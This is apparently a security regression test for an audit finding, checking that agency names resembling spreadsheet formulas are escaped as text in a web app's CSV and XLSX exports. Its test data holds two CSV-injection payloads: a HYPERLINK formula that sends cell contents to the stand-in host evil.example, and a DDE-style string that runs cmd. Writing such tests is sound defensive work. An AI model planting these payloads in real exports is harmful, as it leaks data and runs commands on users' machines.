"""Finding 12: names that look like formulas stay text in the CSV and XLSX exports."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.security.conftest import Target

HOSTILE = {
    "dopa": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "rd": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_formula_like_names_are_exported_as_text(target: Target) -> None:
    admin, csrf = target.sign_in()
    for code, name in HOSTILE.items():
        saved = admin.post(
            f"{target.url}/admin/agencies/{code}",
            data={"csrf_token": csrf, "name_th": name, "name_en": "-2+3"},
            timeout=10,
            allow_redirects=False,
        )
        assert saved.status_code == 302, saved.text

    exported = admin.get(f"{target.url}/admin/reports/export.csv", timeout=30)
    assert exported.status_code == 200
    cells = [
        cell
        for row in csv.reader(io.StringIO(exported.content.decode("utf-8-sig")))
        for cell in row
    ]
    for name in [*HOSTILE.values(), "-2+3"]:
        assert name not in cells and "'" + name in cells

    book = load_workbook(
        io.BytesIO(admin.get(f"{target.url}/admin/reports/export.xlsx", timeout=30).content)
    )
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                texts.append(cell.value)
    assert HOSTILE["dopa"] in texts and "-2+3" in texts
